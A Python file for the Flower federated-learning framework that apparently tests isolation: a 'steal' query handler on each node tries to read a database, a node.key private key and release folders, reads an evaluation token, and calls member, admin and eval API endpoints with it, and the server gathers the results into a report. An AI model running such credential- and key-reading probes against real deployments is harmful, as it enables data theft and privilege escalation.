"""A requester's ClientApp that tries everything a SuperNode's user can do to get at the data."""

from __future__ import annotations

import json
import time
import urllib.error
import urllib.request
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp
from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()


def _try_read(path: Path) -> str:
    try:
        if path.is_dir():
            return "listed: " + ",".join(sorted(p.name for p in path.iterdir()))
        return "read: " + path.read_bytes()[:2000].decode(errors="replace")
    except OSError as exc:
        return f"denied: {type(exc).__name__}"


def _get(url: str, token: str | None = None, body: bytes | None = None) -> str:
    request = urllib.request.Request(url, data=body, method="POST" if body is not None else "GET")
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return f"{response.status}: " + response.read()[:2000].decode(errors="replace")
    except urllib.error.HTTPError as exc:
        return f"{exc.code}: " + exc.read()[:300].decode(errors="replace")
    except OSError as exc:
        return f"error: {type(exc).__name__}"


@client.query()
def steal(message: Message, context: Context) -> Message:
    attempts: dict[str, str] = {}
    for target in str(message.content.config_records["cfg"]["dirs"]).split(","):
        root = Path(target)
        for path in (root, root / "coop.sqlite3", root / "keys" / "node.key", root / "releases"):
            attempts[str(path)] = _try_read(path)
    url = str(context.node_config["coop-eval-url"])
    token_file = Path(str(context.node_config["coop-eval-token-file"]))
    token = token_file.read_text().strip()
    attempts["eval token file"] = "readable" if token else "empty"
    attempts["member API"] = _get(f"{url}/api/v1/me/contributions.jsonl", token)
    attempts["admin API"] = _get(f"{url}/api/v1/admin/waiting-room", token)
    attempts["eval with no request"] = _get(
        f"{url}/api/v1/eval/local", token, b'{"request": {}, "artifact": ""}'
    )
    return Message(RecordDict({"found": ConfigRecord({"json": json.dumps(attempts)})}), reply_to=message)


@server.main()
def main(grid: Grid, context: Context) -> None:
    nodes: list[int] = []
    for _ in range(60):
        nodes = list(grid.get_node_ids())
        if len(nodes) >= 2:
            break
        time.sleep(1)
    cfg = ConfigRecord({"dirs": str(context.run_config["target-dirs"])})
    messages = [Message(RecordDict({"cfg": cfg}), dst_node_id=n, message_type="query") for n in nodes]
    found = []
    for reply in grid.send_and_receive(messages, timeout=120):
        if reply.has_error():
            found.append({"error": str(reply.error.reason)})
        else:
            found.append(json.loads(str(reply.content.config_records["found"]["json"])))
    Path(str(context.run_config["report-file"])).write_text(json.dumps(found))
